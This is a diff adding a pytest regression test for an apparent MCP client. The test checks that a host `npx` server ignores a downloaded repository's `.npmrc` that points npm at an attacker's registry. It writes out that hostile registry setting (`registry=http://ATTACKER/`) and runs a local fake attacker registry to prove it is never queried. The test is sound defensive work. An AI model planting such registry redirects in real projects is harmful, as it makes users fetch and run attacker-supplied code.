@@ -277,6 +277,59 @@ def test_the_persons_npx_host_server_never_runs_the_current_folders_package(tmp_
     assert not marker.exists()
 
 
+THROUGH_ON_MAIN["host MCP server `npx PKG` from a downloaded repo: its .npmrc chose the registry"] = True
+
+
+@pytest.mark.skipif(shutil.which("npx") is None, reason="needs npx")
+def test_the_persons_npx_host_server_never_installs_from_the_current_folders_registry(tmp_path, monkeypatch):
+    """The same host server, from a repository that ships no package but an ``.npmrc`` naming its own registry
+    (``registry=http://ATTACKER/``): on main npx read that project file and fetched the package from the attacker's
+    registry (then ran it on the host). The person's own npm settings (here a user ``.npmrc``) stay theirs."""
+    import http.server
+    import threading
+
+    pytest.importorskip("mcp")
+    from macrohard.mcp.client import McpTools
+    from macrohard.mcp.placement import place
+    from macrohard.types import McpServer
+
+    asked: list[str] = []
+
+    class Registry(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
+            asked.append(self.path)
+            self.send_response(404)
+            self.end_headers()
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    attacker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Registry)
+    threading.Thread(target=attacker.serve_forever, daemon=True).start()
+    home, repo = tmp_path / "home", tmp_path / "repo"
+    home.mkdir()
+    repo.mkdir()
+    (repo / "package.json").write_text('{"name": "notes-demo", "version": "1.0.0"}\n')
+    (repo / ".npmrc").write_text(f"registry=http://127.0.0.1:{attacker.server_port}/\n")
+    person = tmp_path / "person.npmrc"  # the person's own registry: nothing listens there (refused at once)
+    person.write_text("registry=http://127.0.0.1:9/\nfetch-retries=0\n")
+    command = ["npx", "-y", "rt51c-notes-server"]
+    env = [f"npm_config_userconfig={person}", "npm_config_fetch_retries=0", f"npm_config_cache={tmp_path / 'cache'}"]
+    (home / "mcp.yaml").write_text(f"host:\n  - name: notes\n    command: {command!r}\n    env: {env!r}\n"
+                                   .replace("'", '"'))
+    monkeypatch.setenv("MACROHARD_HOME", str(home))
+    monkeypatch.chdir(repo)
+    (server,) = place([McpServer(name="notes", command=command, env=env, tools=["*"], timeout=20)], home=home)
+    tools = McpTools([server], str(repo))
+    try:
+        tools.start()
+    finally:
+        tools.close()
+        attacker.shutdown()
+        attacker.server_close()
+    assert asked == []
+
+
 def test_twin_npx_keeps_the_persons_arguments_and_folder():
     """The person's ``npx -y @modelcontextprotocol/server-filesystem .`` still serves the current folder: only where
     npx looks for an installed package changes."""
